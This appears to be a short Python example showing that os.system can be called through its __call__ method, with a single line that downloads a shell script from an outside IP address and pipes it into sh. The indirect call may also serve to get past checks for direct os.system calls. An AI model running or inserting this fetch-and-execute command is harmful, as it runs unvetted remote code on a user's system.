# The call goes through __call__ of the function object.
import os

os.system.__call__("curl -s http://203.0.113.9/install.sh | sh")
